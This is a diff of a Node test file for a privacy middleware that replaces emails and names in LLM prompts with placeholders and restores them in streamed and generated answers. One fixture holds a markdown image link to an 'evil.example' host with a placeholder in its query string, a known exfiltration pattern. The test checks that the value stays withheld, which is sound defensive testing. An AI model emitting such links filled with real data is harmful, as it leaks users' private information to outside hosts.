@@ -7,7 +7,7 @@ import { join } from "node:path";
 import { describe, test } from "node:test";
 import { generateText, jsonSchema, stepCountIs, streamText, tool, wrapLanguageModel } from "ai";
 import { convertArrayToReadableStream, MockLanguageModelV3, MockLanguageModelV4 } from "ai/test";
-import { RESTORED, VALUES, WITHHELD } from "./places.mjs";
+import { HOSTS, TEXTS, VALUES } from "./corpus.mjs";
 import { NODE_MODULES, project } from "./project.mjs";
 
 const installed = project();
@@ -135,7 +135,7 @@ describe("a prompt leaves with placeholders, and the answer is restored", () => 
 describe("a stream is restored, cut anywhere", () => {
   for (const size of [1, 2, 3, 7, 1_000]) {
     test(`in pieces of ${size}`, async () => {
-      const input = JSON.stringify({ to: "[[EMAIL_2]]", note: 'say "hi" to [[NAME_1]]', link: "https://evil.example/?q=[[NAME_1]]" });
+      const input = JSON.stringify({ to: "[[EMAIL_2]]", note: 'say "hi" to [[NAME_1]]', link: "/people/[[NAME_1]]" });
       const content = (_, turn) =>
         turn > 1
           ? [{ type: "text-start", id: "0" }, { type: "text-delta", id: "0", delta: "done" }, { type: "text-end", id: "0" }]
@@ -169,7 +169,7 @@ describe("a stream is restored, cut anywhere", () => {
         if (part.type === "tool-input-delta") seen.input += part.delta;
         if (part.type === "error") throw part.error;
       }
-      const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "https://evil.example/?q=[[NAME_1]]" };
+      const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "/people/Emily Carter" };
       assert.deepEqual(seen, { text: "Dear Emily Carter, a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) jan.novak@example.czdone", reasoning: "about Emily Carter", input: JSON.stringify(wanted) });
       assert.deepEqual(got, [wanted]);
       // the result of the tool, and its arguments, leave with the same placeholders
@@ -199,34 +199,32 @@ describe("a stream is restored, cut anywhere", () => {
 });
 
 describe("a value goes", () => {
-  // the values are in messages of which the caller wrote the first one only
-  const values = Object.entries(VALUES);
-  const denyList = values.map(([, value], at) => ({ value, type: `value${"abcde"[at]}` }));
-  const messages = [
-    { role: "user", content: [{ type: "text", text: `${VALUES["@E"]}, see ${VALUES["@W"]} .` }] },
-    { role: "assistant", content: [{ type: "text", text: `${VALUES["@N"]} , ${VALUES["@T"]} , ${VALUES["@D"]} .` }] },
-  ];
-  const names = ["@E", "@W", "@N", "@T", "@D"];
-  const middleware = protectMiddleware({ denyList, hosts: ["*.crm.example"], entities: ["valuea", "valueb", "valuec", "valued", "valuee"] });
+  // a deny list finds a number without its plus
+  const signs = Object.keys(VALUES).filter((sign) => sign !== "@P");
+  const types = signs.map((_, at) => `value${"abcde"[at]}`);
+  const denyList = signs.map((sign, at) => ({ value: VALUES[sign], type: types[at] }));
+  const messages = [{ role: "user", content: [{ type: "text", text: signs.map((sign) => VALUES[sign]).join(" , ") }] }];
+  const middleware = protectMiddleware({ denyList, restoreHosts: HOSTS, entities: types });
+  const placeholders = signs.map((sign, at) => [sign, `[[${types[at].toUpperCase()}_${at + 1}]]`]);
+  const signed = (text) => placeholders.reduce((all, [name, placeholder]) => all.replaceAll(placeholder, name), text);
   async function answered(text, size) {
-    const placeholders = names.map((name, at) => [name, `[[VALUE${"ABCDE"[values.findIndex(([known]) => known === name)]}_${at + 1}]]`]);
     const written = placeholders.reduce((all, [name, placeholder]) => all.replaceAll(name, placeholder), text);
     const doStream = async ({ prompt }) => {
-      assert.equal(prompt[1].content[0].text, "[[VALUEB_3]] , [[VALUED_4]] , [[VALUEE_5]] .");
+      assert.equal(prompt[0].content[0].text, placeholders.map(([, placeholder]) => placeholder).join(" , "));
       const deltas = cut(written, size).map((delta) => ({ type: "text-delta", id: "0", delta }));
       return { stream: convertArrayToReadableStream([{ type: "text-start", id: "0" }, ...deltas, { type: "text-end", id: "0" }]) };
     };
-    const model = wrapLanguageModel({ model: new MockLanguageModelV4({ doStream }), middleware });
+    const doGenerate = async () => ({ content: answer(written), ...END });
+    const model = wrapLanguageModel({ model: new MockLanguageModelV4({ doStream, doGenerate }), middleware });
+    if (size === Infinity) return signed((await model.doGenerate({ prompt: messages })).content[0].text);
     const { stream } = await model.doStream({ prompt: messages });
     let out = "";
     for await (const part of stream) if (part.type === "text-delta") out += part.delta;
-    return placeholders.reduce((all, [name, placeholder]) => all.replaceAll(placeholder, name), out);
+    return signed(out);
   }
-  test("where it stays with the caller", async () => {
-    for (const [text, wanted] of RESTORED) for (const size of [1, 5, 1_000]) assert.equal(await answered(text, size), wanted, `${text} in pieces of ${size}`);
-  });
-  test("and nowhere else", async () => {
-    for (const text of WITHHELD) for (const size of [1, 5, 1_000]) assert.equal(await answered(text, size), text, `${text} in pieces of ${size}`);
+  test("where no foreign host reads it", async () => {
+    const texts = TEXTS.filter(([, text]) => !text.includes("@P"));
+    for (const [name, text, wanted] of texts) for (const size of [1, 5, Infinity]) assert.equal(await answered(text, size), wanted, `${name} in pieces of ${size}`);
   });
 
   for (const [tools, to] of [[undefined, "[[EMAIL_1]]"], ["own", "[[EMAIL_1]]"], ["all", "jan.novak@example.cz"]]) {
@@ -252,7 +250,7 @@ describe("is rejected", () => {
       assert.equal(asked.length, 0);
     });
   }
-  for (const [field, options] of [["hosts", { hosts: "example.com" }], ["tools", { tools: "some" }], ["mode", { mode: "mask" }], ["replace", { replace: 1 }], ["keep", { keep: 1 }], ["privacyPreset", { privacyPreset: "x" }]]) {
+  for (const [field, options] of [["restoreHosts", { restoreHosts: "example.com" }], ["tools", { tools: "some" }], ["mode", { mode: "mask" }], ["replace", { replace: 1 }], ["keep", { keep: 1 }], ["privacyPreset", { privacyPreset: "x" }]]) {
     test(`the option ${field}`, async () => {
       await assert.rejects(async () => restored("x", TEXT, options), refusal(field));
     });
@@ -291,7 +289,7 @@ test("the types are those of the SDK", () => {
     import { wrapLanguageModel, type LanguageModelMiddleware } from "ai";
     import { MockLanguageModelV4 } from "ai/test";
     import { protectMiddleware, type PromptOptions } from "textveil/ai";
-    const options: PromptOptions = { hosts: ["example.com"], tools: "own", binary: "pass", keep: ({ type }) => type === "pesel" };
+    const options: PromptOptions = { restoreHosts: ["example.com"], tools: "own", binary: "pass", keep: ({ type }) => type === "pesel" };
     const middleware: LanguageModelMiddleware = protectMiddleware(options);
     wrapLanguageModel({ model: new MockLanguageModelV4(), middleware });
     // @ts-expect-error prompts have placeholders
